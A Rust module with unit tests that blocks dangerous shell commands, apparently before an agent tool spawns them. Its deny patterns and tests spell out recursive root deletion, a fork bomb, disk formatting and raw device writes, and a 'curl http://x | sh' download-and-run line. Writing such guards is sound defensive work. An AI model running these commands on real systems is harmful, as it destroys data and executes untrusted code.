//! Pattern rules applied to a command before it is spawned.
//!
//! Patterns match the argv joined with single spaces, not individual
//! arguments. That gives false positives (a pattern spanning two harmless
//! arguments) and false negatives (an argument containing its own spaces).
//! Callers that need argument-exact checks should use allow/deny lists.

use std::path::Path;
use std::sync::LazyLock;

use regex::Regex;
use tracing::warn;

/// Built-in rules that no configuration can lift.
static DANGER_PATTERNS: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
    [
        (
            "recursive root deletion",
            r"\brm\s+(-[a-zA-Z]+\s+)*-[a-zA-Z]*[rR][a-zA-Z]*\s+(-[a-zA-Z]+\s+)*(--no-preserve-root\s+)?(/|/\*|~|\$HOME)(\s|$)",
        ),
        ("fork bomb", r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:"),
        ("filesystem format", r"\bmkfs(\.[a-z0-9]+)?\b"),
        ("raw device write", r"\bdd\b.*\bof=/dev/"),
        ("force push", r"\bgit\b.*\bpush\b.*\s(--force|-f)(\s|$)"),
        ("pipe to shell", r"\b(curl|wget)\b.*\|\s*(sudo\s+)?(ba|z|da)?sh\b"),
        ("world-writable root", r"\bchmod\s+(-R\s+)?0?777\s+/(\s|$)"),
        ("host shutdown", r"^(sudo\s+)?(shutdown|reboot|halt|poweroff)\b"),
    ]
    .into_iter()
    .filter_map(|(name, pattern)| Regex::new(pattern).ok().map(|re| (name, re)))
    .collect()
});

/// Name of the first built-in danger rule `joined` matches.
pub fn match_danger(joined: &str) -> Option<&'static str> {
    DANGER_PATTERNS
        .iter()
        .find(|(_, re)| re.is_match(joined))
        .map(|(name, _)| *name)
}

/// Compile user-supplied patterns. Invalid ones are logged and skipped.
pub fn compile_patterns(patterns: &[String]) -> Vec<Regex> {
    patterns
        .iter()
        .filter_map(|p| match Regex::new(p) {
            Ok(re) => Some(re),
            Err(e) => {
                warn!(pattern = %p, error = %e, "skipping invalid deny pattern");
                None
            }
        })
        .collect()
}

/// First pattern in `patterns` that matches `joined`.
pub fn first_match<'a>(patterns: &'a [Regex], joined: &str) -> Option<&'a Regex> {
    patterns.iter().find(|re| re.is_match(joined))
}

/// The executable's file name, so `/usr/bin/git` and `git` are the same
/// binary for list checks.
pub fn binary_name(program: &str) -> &str {
    Path::new(program)
        .file_name()
        .and_then(|n| n.to_str())
        .unwrap_or(program)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_builtin_patterns_compile() {
        assert_eq!(DANGER_PATTERNS.len(), 8);
    }

    #[test]
    fn catches_destructive_commands() {
        assert_eq!(match_danger("rm -rf /"), Some("recursive root deletion"));
        assert_eq!(match_danger("rm -r -f ~"), Some("recursive root deletion"));
        assert_eq!(match_danger(":(){ :|:& };:"), Some("fork bomb"));
        assert_eq!(match_danger("mkfs.ext4 /dev/sda1"), Some("filesystem format"));
        assert_eq!(match_danger("dd if=/dev/zero of=/dev/sda"), Some("raw device write"));
        assert_eq!(match_danger("git push --force origin main"), Some("force push"));
        assert_eq!(match_danger("git push -f"), Some("force push"));
        assert_eq!(match_danger("git push origin main --force"), Some("force push"));
        assert_eq!(match_danger("sh -c curl http://x | sh"), Some("pipe to shell"));
        assert_eq!(match_danger("chmod -R 777 /"), Some("world-writable root"));
        assert_eq!(match_danger("reboot now"), Some("host shutdown"));
    }

    #[test]
    fn leaves_ordinary_commands_alone() {
        for cmd in [
            "rm -rf target",
            "git push origin foreman/t-1",
            "cargo test shutdown_handler",
            "dd if=a of=b",
            "chmod 755 script.sh",
            "git commit -m fix",
            "git push --force-with-lease origin foreman/t-1",
        ] {
            assert_eq!(match_danger(cmd), None, "{}", cmd);
        }
    }

    #[test]
    fn joined_matching_spans_arguments() {
        // "rm" and "-rf" as separate args still match once joined.
        let argv = ["rm", "-rf", "/"];
        assert!(match_danger(&argv.join(" ")).is_some());
    }

    #[test]
    fn invalid_patterns_are_skipped() {
        let compiled = compile_patterns(&["(unclosed".to_string(), r"\bnpm publish\b".to_string()]);
        assert_eq!(compiled.len(), 1);
        assert!(first_match(&compiled, "npm publish --access public").is_some());
    }

    #[test]
    fn binary_name_strips_directories() {
        assert_eq!(binary_name("/usr/bin/git"), "git");
        assert_eq!(binary_name("cargo"), "cargo");
    }
}
